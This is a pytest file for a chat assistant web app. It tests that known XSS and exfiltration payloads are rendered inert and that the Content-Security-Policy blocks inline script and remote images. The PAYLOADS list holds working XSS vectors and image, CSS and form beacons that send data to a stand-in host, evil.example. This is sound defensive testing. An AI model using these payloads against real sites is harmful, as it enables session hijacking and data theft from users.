"""Known XSS and exfiltration payloads, fed through the Markdown renderer and through the
thread page, come out inert: no script, no event attribute, no dangerous URL, no image or
other element that would fetch from a remote host, and a CSP that forbids inline script."""

from html.parser import HTMLParser

import pytest

from assistants_app.middleware import CONTENT_SECURITY_POLICY
from assistants_app.models import Message, Thread
from assistants_app.rendering import ALLOWED_TAGS, render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=password></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example/leak)}</style>",
    '<div style="background:url(https://evil.example/leak)">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    '"><script>alert(1)</script>',
    "</div></li></ol><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](%6Aavascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    '```js" onmouseover="alert(1)\ncode\n```',
    "![x](https://evil.example/steal?secret=thread-text)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x][img]\n\n[img]: https://evil.example/pixel.png",
    "[![x](https://evil.example/pixel.png)](https://ok.example)",
    "<https://evil.example/autolink>",
]

DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")
FETCHING_TAGS = {"img", "iframe", "object", "embed", "video", "audio", "source", "link", "image"}


class Elements(HTMLParser):
    """Every start tag of a document, with its attributes (entities decoded)."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def assert_inert(html: str, allowed_tags=ALLOWED_TAGS) -> None:
    for tag, attrs in Elements(html).found:
        assert tag in allowed_tags, f"<{tag}> in {html!r}"
        assert tag not in FETCHING_TAGS, f"<{tag}> would fetch: {html!r}"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{name} in {html!r}"
            assert name not in {"style", "src", "srcset", "action", "formaction"}, html
            url = "".join(value.split()).lower()  # browsers ignore whitespace in schemes
            assert not url.startswith(DANGEROUS_SCHEMES), f"{name}={value!r} in {html!r}"
        if tag == "a" and "href" in attrs:
            assert set(attrs.get("rel", "").split()) >= {"noopener", "noreferrer"}, html
            assert attrs.get("target") == "_blank", html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_renderer_makes_payloads_inert(payload):
    assert_inert(render_markdown(payload))


def test_raw_html_is_shown_as_text_not_dropped():
    assert render_markdown("<b>bold?</b>") == "<p>&lt;b&gt;bold?&lt;/b&gt;</p>\n"


def test_an_image_becomes_a_link_that_is_only_followed_on_click():
    html = render_markdown("![diagram](https://example.com/d.png)")
    assert "<img" not in html
    assert 'href="https://example.com/d.png"' in html
    assert 'rel="noopener noreferrer"' in html


def test_safe_markdown_still_renders():
    html = render_markdown("**bold** and [docs](https://docs.example/a?b=1)\n\n```py\nx = 1\n```")
    assert "<strong>bold</strong>" in html
    assert (
        '<a href="https://docs.example/a?b=1" target="_blank" rel="noopener noreferrer">docs'
        in html
    )
    assert '<pre tabindex="0"><code class="language-py"><span class="n">x</span>' in html


@pytest.fixture
def poisoned_thread(alice, assistant):
    """A thread whose title, question and answers are all attack payloads."""
    thread = Thread.objects.create(owner=alice, assistant=assistant, title=PAYLOADS[0])
    for number, payload in enumerate(PAYLOADS):
        Message.objects.create(thread=thread, role="user", text=payload)
        Message.objects.create(
            thread=thread, role="assistant", text=payload, remote_id=f"msg_{number}"
        )
    return thread


def test_the_thread_page_shows_payloads_inert(alice_client, poisoned_thread):
    response = alice_client.get(f"/threads/{poisoned_thread.pk}/")
    assert response.status_code == 200
    page = response.content.decode()

    elements = Elements(page).found
    scripts = [attrs for tag, attrs in elements if tag == "script"]
    assert scripts == [
        {"src": "/static/js/theme.js"},
        {"src": "/static/js/time.js", "defer": ""},
        {"type": "module", "src": "/static/js/page.js"},
    ]
    assert not [tag for tag, _ in elements if tag in FETCHING_TAGS - {"link"}]
    links = [attrs for tag, attrs in elements if tag == "link"]
    assert all(attrs["rel"] in ("stylesheet", "icon") for attrs in links)
    assert all(attrs["href"].startswith("/static/") for attrs in links)  # our own files
    assert not [(tag, n) for tag, attrs in elements for n in attrs if n.startswith("on")]

    messages = page[page.index('<ol class="messages"') : page.index("</ol>")]
    # The page's own controls (versions, edit, regenerate, feedback) among the messages.
    page_tags = ALLOWED_TAGS | {"ol", "li", "div", "time", "button", "span", "svg", "use"}
    assert_inert(messages.removeprefix('<ol class="messages"'), page_tags)
    assert messages.count('<li class="message') == 2 * len(PAYLOADS)  # none broke the list
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # the title, escaped


def test_the_thread_list_escapes_titles(alice_client, poisoned_thread):
    page = alice_client.get("/").content.decode()
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_the_answer_sent_over_http_and_websocket_is_the_sanitised_html(poisoned_thread):
    message = poisoned_thread.messages.last()
    assert message.as_event()["html"] == render_markdown(message.text)


def test_a_question_is_sent_as_typed_and_never_rendered(poisoned_thread, monkeypatch):
    """The page shows a user's message as text (textContent), so its event carries no HTML,
    and no Markdown is rendered for it (a post's event and every replay would pay for it)."""
    rendered = []
    monkeypatch.setattr(Message, "html", property(lambda message: rendered.append(message)))
    question = poisoned_thread.messages.filter(role="user").first()

    event = question.as_event()

    assert event["text"] == PAYLOADS[0] and event["html"] is None
    assert rendered == []


def test_the_csp_forbids_inline_script_and_remote_images(alice_client, poisoned_thread):
    response = alice_client.get(f"/threads/{poisoned_thread.pk}/")
    policy = dict(
        directive.strip().split(" ", 1)
        for directive in response["Content-Security-Policy"].split(";")
    )
    assert response["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
    assert policy["script-src"] == "'self'"  # no 'unsafe-inline', no 'unsafe-eval', no hosts
    assert policy["default-src"] == "'self'"
    assert "http" not in policy["img-src"] and "*" not in policy["img-src"]
    assert policy["object-src"] == "'none'" and policy["base-uri"] == "'none'"
    assert policy["connect-src"] == "'self'" and policy["form-action"] == "'self'"
